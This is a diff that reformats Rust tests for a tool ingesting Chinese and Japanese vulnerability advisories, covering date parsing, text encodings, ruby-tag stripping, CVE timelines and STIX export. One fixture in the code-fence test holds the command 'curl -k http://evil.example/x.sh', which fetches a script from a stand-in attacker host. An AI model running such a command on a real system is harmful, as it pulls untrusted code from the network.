@@ -66,7 +66,9 @@ fn days_in_every_form() {
         ("a.md", "2999-12-31", "-"),
         ("a.md", "", "-"),
     ] {
-        let head = format!("---\ntitle: t\nurl: https://a.example/1\nsource: s\ndate: {date}\nfetch_date: x\n---\n\n正文");
+        let head = format!(
+            "---\ntitle: t\nurl: https://a.example/1\nsource: s\ndate: {date}\nfetch_date: x\n---\n\n正文"
+        );
         let told = told(path, &head);
         assert_eq!(told.rsplit(" | ").next(), Some(expected), "{path} {date}");
     }
@@ -110,7 +112,11 @@ fn a_cve_is_not_named_before_its_year() {
         let timeline = bench.ok(&["timeline", "--json", query]).out;
         let timeline: Value = serde_json::from_str(&timeline).expect("JSON");
         let first = &timeline["events"][0];
-        assert_eq!((&first["event"], &first["date"]), (&"first-mention".into(), &"2024-09-02".into()), "{query}");
+        assert_eq!(
+            (&first["event"], &first["date"]),
+            (&"first-mention".into(), &"2024-09-02".into()),
+            "{query}"
+        );
     }
     let timeline = bench.ok(&["timeline", "漏洞"]).out;
     assert!(timeline.contains("2019-05-01"), "{timeline}");
@@ -123,7 +129,8 @@ fn a_cve_is_not_named_before_its_year() {
 #[test]
 fn files_in_other_encodings() {
     let text = "---\ntitle: 某路由器存在命令执行漏洞\nurl: https://a.example/1\nsource: 某源\ndate: 2024-09-26\nfetch_date: x\n---\n\n正文：请尽快升级到最新版本。\n";
-    let utf_16 = |to_bytes: fn(u16) -> [u8; 2]| -> Vec<u8> { text.encode_utf16().flat_map(to_bytes).collect() };
+    let utf_16 =
+        |to_bytes: fn(u16) -> [u8; 2]| -> Vec<u8> { text.encode_utf16().flat_map(to_bytes).collect() };
     let (little, big) = (utf_16(u16::to_le_bytes), utf_16(u16::to_be_bytes));
     let gb18030 = encoding_rs::GB18030.encode(text).0.into_owned();
     for bytes in [
@@ -135,7 +142,10 @@ fn files_in_other_encodings() {
         [b"\xef\xbb\xbf", text.as_bytes()].concat(),
     ] {
         let article = article("a.md", &bytes);
-        assert_eq!((&article["title"], &article["date"]), (&"某路由器存在命令执行漏洞".into(), &"2024-09-26".into()));
+        assert_eq!(
+            (&article["title"], &article["date"]),
+            (&"某路由器存在命令执行漏洞".into(), &"2024-09-26".into())
+        );
         assert_eq!(article["body"].as_str().map(str::trim), Some("正文：请尽快升级到最新版本。"));
     }
 }
@@ -145,12 +155,17 @@ fn what_pages_leave_in_a_text() {
     for (body, expected) in [
         ("<ruby>漏<rt>lòu</rt>洞<rt>dòng</rt></ruby>公告", "漏洞公告"),
         ("<ruby>脆弱性<rp>（</rp><rt>ぜいじゃくせい</rt><rp>）</rp></ruby>の報告", "脆弱性の報告"),
-        ("说明\n\n```curl -k http://evil.example/x.sh\nsecond\n```\n\n尾", "说明\n\ncurl -k http://evil.example/x.sh\nsecond\n\n尾"),
+        (
+            "说明\n\n```curl -k http://evil.example/x.sh\nsecond\n```\n\n尾",
+            "说明\n\ncurl -k http://evil.example/x.sh\nsecond\n\n尾",
+        ),
         ("说明\n\n```python\nimport os\n```\n\n尾", "说明\n\nimport os\n\n尾"),
         ("说明\n\n~~~ bash title=\"a\"\nid\n~~~\n\n尾", "说明\n\nid\n\n尾"),
         ("a\u{FFFF}安\u{FFFE}全\u{1FFFE}公告与说明", "a安全公告与说明"),
     ] {
-        let text = format!("---\ntitle: t\nurl: https://a.example/1\nsource: s\ndate: 2024-09-26\nfetch_date: x\n---\n\n{body}\n");
+        let text = format!(
+            "---\ntitle: t\nurl: https://a.example/1\nsource: s\ndate: 2024-09-26\nfetch_date: x\n---\n\n{body}\n"
+        );
         assert_eq!(article("a.md", text.as_bytes())["body"].as_str().map(str::trim), Some(expected));
     }
 }
@@ -170,7 +185,12 @@ fn no_noncharacter_reaches_xml_or_a_terminal() {
         &["export", "--format", "stix", "--all"],
     ] {
         let run = bench.run(arguments);
-        assert!(run.code < 2 && !run.out.is_empty() && !bad(&run.out), "{arguments:?}: {} {}", run.out, run.err);
+        assert!(
+            run.code < 2 && !run.out.is_empty() && !bad(&run.out),
+            "{arguments:?}: {} {}",
+            run.out,
+            run.err
+        );
     }
 }
 
